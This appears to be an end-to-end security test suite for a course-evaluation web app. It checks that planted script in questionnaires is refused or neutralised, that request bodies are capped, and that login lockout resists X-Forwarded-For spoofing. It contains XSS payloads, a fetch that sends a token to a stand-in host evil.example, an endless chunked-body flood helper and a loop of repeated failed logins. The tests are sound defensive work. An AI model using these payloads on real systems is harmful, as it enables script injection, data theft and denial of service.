import { readFileSync } from "node:fs";
import http from "node:http";
import path from "node:path";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { z } from "zod";
import { DESKTOP, PHONE, baseURL, launch, newContext, shot, signInHome, takeCspViolations, trpc, dataOf, found } from "./browser";
import { SURVEY_PAGE, complete, fillIn } from "./fill";
import { startApp } from "./setup/server";
import { PAYLOAD, PLANTED_TEXT } from "./setup/planted";
import { at } from "@/server/shared/indexed";
import { list, node } from "@/server/instruments/testing/json";
import type { Json } from "@/server/instruments/walk";
import { match } from "@/server/test/match";

// Script planted in a questionnaire, against the running app, and the smaller holes that
// attack found:
// - a questionnaire carrying `<img src=x onerror=…>` cannot be stored (upload and live
//   editor refuse it with its path), and one stored before the fix, planted in a copy of
//   the database past the checker (e2e/setup/plant.ts) and served by a second server, runs
//   no script on the student's answer page; the Content-Security-Policy blocks an inline
//   handler, a javascript: URL and a request to another site on that page even if markup
//   got through;
// - every route handler reads at most its limit of a chunked body and answers 413 at once;
// - a locked-out address stays locked out when the client adds X-Forwarded-For.

type Pending = { campaignId: number; targets: { targetId: number; courseName: string }[] }[];

let browser: Browser;
const contexts: BrowserContext[] = [];
beforeAll(async () => {
  browser = await launch();
});
afterAll(async () => {
  for (const c of contexts) await c.close();
  await browser?.close();
});

async function open(size = DESKTOP, base?: string): Promise<Page> {
  const ctx = await newContext(browser, size, "zh", base);
  contexts.push(ctx);
  return ctx.newPage();
}

const pwned = (p: Page) => p.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? 0);

function attackFile(): Json {
  const f = node(JSON.parse(readFileSync(path.join(process.cwd(), "surveys", "student_evaluation.json"), "utf8")));
  list(f, "survey.pages.0.elements").unshift({
    type: "html",
    name: "notice",
    html: { default: `<p>${PLANTED_TEXT.zh}</p>${PAYLOAD}`, en: `<p>${PLANTED_TEXT.en}</p>` },
  });
  node(f, "survey").completedHtml = { default: `<h3>提交成功</h3>${PAYLOAD}`, en: "<h3>Submitted</h3>" };
  return f;
}

describe("a questionnaire with script in it", () => {
  it("is refused by the upload and by the live editor, with the path, and nothing is stored", async () => {
    const page = await open();
    await signInHome(page, "quality");
    await page.goto("/admin/instruments");
    await page.getByTestId("instruments-table").getByRole("link", { name: "学生评教表" }).click();
    await page.waitForURL(/\/admin\/instruments\/\d+$/);
    await page.getByTestId("version-row").first().waitFor();
    const versions = await page.getByTestId("version-row").count();

    await page.locator("input[type=file]").setInputFiles({
      name: "student_evaluation.json",
      mimeType: "application/json",
      buffer: Buffer.from(JSON.stringify(attackFile(), null, 2)),
    });
    await page.getByTestId("upload-problems").waitFor();
    const problems = await page.getByTestId("upload-problems").innerText();
    expect(problems).toContain("未保存");
    expect(problems).toMatch(/survey\.pages\[0\]\.elements\[0\]\.html\.default\s*含有不允许的 HTML：<img>/);
    expect(problems).toContain("survey.completedHtml.default");
    await shot(page, "security-upload-refused");
    expect(await pwned(page)).toBe(0);

    await page.getByTestId("edit-in-app").click();
    await page.waitForURL(/\/edit$/);
    const editor = page.getByTestId("editor-json");
    await editor.waitFor();
    await expect.poll(() => page.getByTestId("editor-status").getAttribute("data-state"), { timeout: 15_000 }).toBe("ok");
    await editor.fill(JSON.stringify(attackFile(), null, 2));
    await expect.poll(() => page.getByTestId("editor-status").getAttribute("data-state"), { timeout: 15_000 }).toBe("problems");
    expect(await page.getByTestId("editor-problems").innerText()).toContain("survey.pages[0].elements[0].html.default");
    expect(await page.getByTestId("editor-save").isDisabled()).toBe(true);
    await shot(page, "security-editor-refused");

    // Not through the API either; and the versions are as they were.
    const r = await trpc(page, "instruments.upload", { file: attackFile() }, "mutation");
    expect(JSON.stringify(r)).toContain("<img>");
    await page.goto(page.url().replace(/\/edit$/, ""));
    await page.getByTestId("version-row").first().waitFor();
    expect(await page.getByTestId("version-row").count()).toBe(versions);
    expect(await pwned(page)).toBe(0);
  });
});

describe("a version stored before the fix, on the student's answer page (second server, planted copy)", () => {
  let planted: Awaited<ReturnType<typeof startApp>>;
  let student: Page;
  const exfiltrated: string[] = [];

  beforeAll(async () => {
    const { pgliteDir, env } = inject("plantedApp");
    const e: NodeJS.ProcessEnv = {
      ...process.env,
      ...env,
      PGLITE_DIR: pgliteDir,
      DEMO_SEED: "off",
      SCHEDULER: "off",
      NEXT_TELEMETRY_DISABLED: "1",
    };
    delete e.DATABASE_URL;
    planted = await startApp(e);
  }, 120_000);
  afterAll(() => planted?.stop());

  it("renders the form's own text, and the payload neither appears nor runs", async () => {
    student = await open(PHONE, planted.base);
    await student.context().route(/evil\.example/, (route) => {
      exfiltrated.push(route.request().url());
      return route.abort();
    });
    await signInHome(student, "2024020101");
    const pending = await trpc<Pending>(student, "respond.pending", undefined, "query");
    const campaign = found(dataOf(pending), (c) => c.targets.length > 0, "a pending campaign with targets");
    const card = student.locator(`[data-testid="campaign-${campaign.campaignId}"]`);
    await expect
      .poll(() => card.locator("[data-status]").evaluateAll((els) => els.map((e) => e.getAttribute("data-status"))), { timeout: 30_000 })
      .toEqual(campaign.targets.map(() => "todo"));
    await card.locator(`[data-testid="target-${at(campaign.targets, 0).targetId}"] a`).click();
    const response = await student
      .waitForResponse((r) => /\/respond\//.test(r.url()) && r.request().resourceType() === "document")
      .catch(() => null);
    await student.locator(SURVEY_PAGE).waitFor({ timeout: 30_000 });

    // The page runs under the policy: scripts by nonce only, no inline handlers, no eval, requests to the app only.
    const doc = response ?? (await student.reload());
    if (doc === null) throw new Error("the survey page answered no document");
    const policy = (await doc.headerValue("content-security-policy")) ?? "";
    expect(policy).toMatch(/script-src 'self' 'nonce-[A-Za-z0-9+/=]+' 'strict-dynamic'(;|$)/);
    expect(policy).toContain("script-src-attr 'none'");
    expect(policy).toContain("connect-src 'self'");
    expect(policy).not.toContain("unsafe-eval");

    await student.locator(SURVEY_PAGE).waitFor({ timeout: 30_000 });
    await expect.poll(() => student.getByTestId("survey-form").innerText()).toContain(PLANTED_TEXT.zh);
    expect(await student.getByTestId("survey-form").locator("img, [onerror]").count()).toBe(0);
    await student.waitForTimeout(500);
    expect(await pwned(student)).toBe(0);
    await shot(student, "security-planted-form-phone");

    await fillIn(student);
    await complete(student);
    await student.getByText("继续评价下一门").waitFor({ timeout: 30_000 });
    await student.waitForTimeout(500);
    expect(await pwned(student)).toBe(0);
    expect(exfiltrated).toEqual([]);
  }, 180_000);

  it("the completed page (completedHtml) keeps its heading and drops the payload (the office's preview of that version)", async () => {
    const office = await open(DESKTOP, planted.base);
    await office.context().route(/evil\.example/, (route) => {
      exfiltrated.push(route.request().url());
      return route.abort();
    });
    await signInHome(office, "quality");
    await office.goto("/admin/instruments");
    await office.getByTestId("instruments-table").getByRole("link", { name: "学生评教表" }).click();
    await office.waitForURL(/\/admin\/instruments\/\d+$/);
    await office.getByTestId("preview-1").click();
    await office.waitForURL(/\/preview$/);
    await office.locator(SURVEY_PAGE).waitFor({ timeout: 30_000 });
    await expect.poll(() => office.getByTestId("survey-form").innerText()).toContain(PLANTED_TEXT.zh);
    await fillIn(office);
    await complete(office);
    await expect.poll(() => office.getByTestId("survey-form").innerText(), { timeout: 30_000 }).toContain("提交成功");
    expect(await office.getByTestId("survey-form").locator("img, [onerror]").count()).toBe(0);
    expect(await office.getByTestId("survey-form").locator(".sd-completedpage h3").count()).toBe(1);
    await office.waitForTimeout(500);
    expect(await pwned(office)).toBe(0);
    expect(exfiltrated).toEqual([]);
    await shot(office, "security-planted-completed");
  }, 180_000);

  it("markup that got past every check still could not run script or send anything away (the policy)", async () => {
    const seen = await student.evaluate(async () => {
      const violations: string[] = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
      const w = window as unknown as { __pwned?: number };
      const box = document.createElement("div");
      document.body.append(box);
      // What the attack's markup does, as if a sanitiser had let it through.
      box.innerHTML =
        '<img src="data:," onerror="window.__pwned=(window.__pwned||0)+1"><a id="js" href="javascript:window.__pwned=(window.__pwned||0)+1">x</a>';
      (document.getElementById("js") as HTMLAnchorElement).click();
      let fetched = "sent";
      try {
        await fetch("https://evil.example/steal", { method: "POST", body: "token", mode: "no-cors" });
      } catch {
        fetched = "blocked";
      }
      await new Promise((r) => setTimeout(r, 500));
      return { violations, pwned: w.__pwned ?? 0, fetched };
    });
    expect(seen.pwned).toBe(0);
    expect(seen.fetched).toBe("blocked");
    // The inline handler, the javascript: URL, the request to another site.
    expect(seen.violations).toEqual(expect.arrayContaining(["script-src-attr", "script-src-elem", "connect-src"]));
    expect(exfiltrated).toEqual([]);
    // Chromium reported them on the console too; these were provoked on purpose.
    expect(takeCspViolations().length).toBeGreaterThanOrEqual(2);
  });

  it("a locked-out address stays locked out when the client adds X-Forwarded-For", async () => {
    const base = planted.base;
    const csrf = await fetch(`${base}/api/auth/csrf`);
    const cookie = csrf.headers
      .getSetCookie()
      .map((c) => c.split(";")[0])
      .join("; ");
    const { csrfToken } = (await csrf.json()) as { csrfToken: string };
    const signIn = async (number: string, password: string, headers: Record<string, string> = {}) => {
      const res = await fetch(`${base}/api/auth/callback/credentials`, {
        method: "POST",
        redirect: "manual",
        headers: { "content-type": "application/x-www-form-urlencoded", cookie, origin: base, ...headers },
        body: new URLSearchParams({ csrfToken, number, password, json: "true" }),
      });
      const url = res.headers.get("location") ?? ((await res.json().catch(() => ({}))) as { url?: string }).url ?? "";
      return new URL(url, base).searchParams.get("error") ?? "ok";
    };
    expect(await signIn("2024020103", "Demo@2026")).toBe("ok");
    // LOGIN_MAX_FAILURES=5 in e2e: an address is locked after 50 failures.
    for (let i = 0; i < 50; i++) await signIn(`NOBODY${i}`, "wrong-password");
    expect(await signIn("2024020103", "Demo@2026")).toMatch(/^throttled:/);
    for (const xff of ["198.51.100.1", "198.51.100.1, 127.0.0.1"]) {
      expect(
        await signIn("2024020103", "Demo@2026", {
          "x-forwarded-for": xff,
          "x-real-ip": "198.51.100.2",
          "x-tqe-peer-address": "198.51.100.3",
        }),
      ).toMatch(/^throttled:/);
    }
  });
});

// ---------------------------------------------------------------------------------------

type Flood = { status: number; code: string | null; sent: number; after: number };

/**
 * POSTs an endless chunked body; reports the answer, how much had been sent when it came,
 * and how much more went out after it, still sending, until the server closed the
 * connection (it reads no more: only socket buffers fill).
 */
function flood(url: string, headers: Record<string, string> = {}): Promise<Flood> {
  return new Promise((resolve, reject) => {
    const req = http.request(url, { method: "POST", headers: { origin: baseURL(), ...headers } });
    const chunk = Buffer.alloc(64 * 1024, 0x20);
    let sent = 0;
    let answer: { status: number; at: number; body: string } | null = null;
    let over = false;
    const pump = () => {
      while (!over && sent < 2 * 1024 * 1024 * 1024) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
    };
    const end = () => {
      if (over) return;
      over = true;
      clearTimeout(giveUp);
      if (!answer) return reject(new Error("the connection ended without an answer"));
      let code: string | null = null;
      try {
        const body = z.object({ code: z.string().nullish() }).safeParse(JSON.parse(answer.body));
        code = body.success ? (body.data.code ?? null) : null;
      } catch {
        /* not JSON */
      }
      resolve({ status: answer.status, code, sent: answer.at, after: sent - answer.at });
    };
    // A server that answers but keeps the connection (401 before reading) is left after 5 s.
    const giveUp = setTimeout(() => {
      req.destroy();
      end();
    }, 5000);
    req.on("response", (res) => {
      const got = { status: res.statusCode ?? 0, at: sent, body: "" };
      answer = got;
      res.on("data", (d) => {
        got.body += d;
      });
      if (res.statusCode !== 413)
        res.on("end", () => {
          req.destroy();
          end();
        });
    });
    req.on("error", end);
    req.on("close", end);
    pump();
  });
}

describe("request bodies", () => {
  const MB = 1024 * 1024;

  it("every route answers a chunked body beyond its limit with 413 at once, having read no more than the limit", async () => {
    const submit = await flood(`${baseURL()}/api/submit`, { "content-type": "application/json" });
    expect(submit).toMatchObject({ status: 413, code: "respond.submit.errors.tooLarge" });
    expect(submit.sent).toBeLessThan(16 * MB);
    // Sending on after the answer: only socket buffers take it, and the server closes the connection.
    expect(submit.after).toBeLessThan(32 * MB);

    const rpc = await flood(`${baseURL()}/api/trpc/instruments.check`, { "content-type": "application/json" });
    expect(rpc).toMatchObject({ status: 413, code: "errors.tooLarge" });
    expect(rpc.sent).toBeLessThan(6 * MB + 16 * MB);

    const auth = await flood(`${baseURL()}/api/auth/callback/credentials`, { "content-type": "application/x-www-form-urlencoded" });
    expect(auth.status).toBe(413);
    expect(auth.sent).toBeLessThan(16 * MB);

    // The upload routes read after the session check: nothing is read without one.
    const anonymous = await flood(`${baseURL()}/api/imports`, { "content-type": "multipart/form-data; boundary=x" });
    expect(anonymous.status).toBe(401);
    expect(anonymous.sent).toBeLessThan(16 * MB);

    const page = await open();
    await signInHome(page, "quality");
    const cookie = (await page.context().cookies()).map((c) => `${c.name}=${c.value}`).join("; ");
    const upload = await flood(`${baseURL()}/api/imports`, { "content-type": "multipart/form-data; boundary=x", cookie });
    expect(upload).toMatchObject({ status: 413, code: "imports.upload.tooLarge" });
    expect(upload.sent).toBeGreaterThan(20 * MB);
    expect(upload.sent).toBeLessThan(20 * MB + 16 * MB);
    expect(upload.after).toBeLessThan(32 * MB);
    const history = await flood(`${baseURL()}/api/scoring/history`, { "content-type": "multipart/form-data; boundary=x", cookie });
    expect(history).toMatchObject({ status: 413, code: "scoring.longFormat.tooLarge" });
    expect(history.sent).toBeLessThan(100 * MB + 16 * MB);

    // A Content-Length above the limit: refused before anything is read.
    const announced = await new Promise<number>((resolve, reject) => {
      const req = http.request(`${baseURL()}/api/submit`, {
        method: "POST",
        headers: { origin: baseURL(), "content-type": "application/json", "content-length": String(200 * MB) },
      });
      req.on("response", (res) => {
        resolve(res.statusCode ?? 0);
        res.resume();
        req.destroy();
      });
      req.on("error", reject);
      req.write("{");
    });
    expect(announced).toBe(413);
  });

  it("text that cannot be stored is a 400 with a message, not a 500", async () => {
    const res = await fetch(`${baseURL()}/api/submit`, {
      method: "POST",
      headers: { origin: baseURL(), "content-type": "application/json" },
      body: '{"targetId":1,"token":"x","signature":"y","answers":{"comment":"a\\u0000b"}}',
    });
    expect(res.status).toBe(400);
    expect(await res.json()).toMatchObject({ code: "errors.badText", error: match.stringContaining("answers.comment") });
    const page = await open();
    await signInHome(page, "quality");
    const search = await trpc(page, "people.list", { q: "王\u0000" }, "query");
    expect(search.status).toBe(400);
    expect(JSON.stringify(search.error)).toContain("无法保存的字符");
  });
});

describe("the bare benchmark route", () => {
  it("is not in the production build: absent from the build's routes, and the server answers 404", async () => {
    // Only the benchmark harness's build (TQE_BENCH_BUILD=1, bench/harness.ts) builds
    // app/api/bench/bare/route.bench.ts; the tests' build is a production build.
    const routes = Object.values(
      JSON.parse(readFileSync(path.join(process.cwd(), ".next", "app-path-routes-manifest.json"), "utf8")) as Record<string, string>,
    );
    expect(routes).toContain("/api/submit");
    expect(routes).not.toContain("/api/bench/bare");
    const res = await fetch(`${baseURL()}/api/bench/bare`, {
      method: "POST",
      headers: { origin: baseURL(), "content-type": "application/json" },
      body: "{}",
    });
    expect(res.status).toBe(404);
  });
});
